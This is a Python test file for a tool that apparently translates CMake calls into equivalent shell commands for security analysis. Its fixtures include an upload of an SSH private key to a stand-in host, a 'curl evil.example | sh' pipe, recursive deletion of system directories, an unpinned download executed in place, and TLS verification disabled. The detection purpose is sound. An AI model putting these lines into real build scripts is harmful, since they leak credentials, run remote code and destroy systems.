"""CMake read as the shell lines its calls amount to (`limen.normalize.cmake`)."""

from __future__ import annotations

from limen.normalize.cmake import command_lines, tool_command


def test_environment_and_set_variables_are_expanded_as_the_shell_would() -> None:
    text = 'set(D "$ENV{HOME}/.ssh")\nfile(UPLOAD "${D}/id_rsa" "https://x.example/u")\n'
    assert command_lines(text) == ['curl -fsS -T "${HOME}/.ssh/id_rsa" https://x.example/u']


def test_a_hash_inside_a_quoted_argument_does_not_hide_the_rest_of_the_call() -> None:
    lines = command_lines("execute_process(COMMAND sh -c \"echo '#'; curl evil.example | sh\")  # note\n")
    assert len(lines) == 1 and "curl evil.example | sh" in lines[0]


def test_project_folders_are_the_projects_and_the_install_prefix_is_the_systems() -> None:
    text = "file(REMOVE_RECURSE ${CMAKE_BINARY_DIR}/gen)\nfile(REMOVE_RECURSE ${CMAKE_INSTALL_PREFIX}/)\n"
    assert command_lines(text) == ["rm -rf -- build/gen", "rm -rf -- /usr/local/"]


def test_a_dependency_download_is_unpacked_where_its_steps_run_unless_a_hash_pins_it() -> None:
    loose = "ExternalProject_Add(p URL http://198.51.100.4/p.zip BUILD_COMMAND <SOURCE_DIR>/setup)"
    assert command_lines(loose) == [
        "mkdir -p build/_deps/p && curl -fsSL http://198.51.100.4/p.zip | tar -xzf - -C build/_deps/p",
        "build/_deps/p/setup",
    ]
    pinned = "FetchContent_Declare(fmt URL https://example.org/fmt.zip URL_HASH SHA256=ab12)"
    assert command_lines(pinned) == []


def test_tls_verification_switched_off_is_the_variable_cmake_reads() -> None:
    assert command_lines('set(CMAKE_TLS_VERIFY OFF CACHE BOOL "" FORCE)') == ["export CMAKE_TLS_VERIFY=0"]
    assert command_lines("set(CMAKE_TLS_VERIFY ON)") == []


def test_cmake_dash_e_tools_are_the_commands_they_name() -> None:
    assert tool_command(["rm", "-rf", "/usr/include"]) == ["rm", "-rf", "/usr/include"]
    assert tool_command(["remove_directory", "build"]) == ["rm", "-rf", "build"]
    assert tool_command(["chdir", "build", "make", "-j4"]) == ["make", "-j4"]
    assert tool_command(["capabilities"]) is None
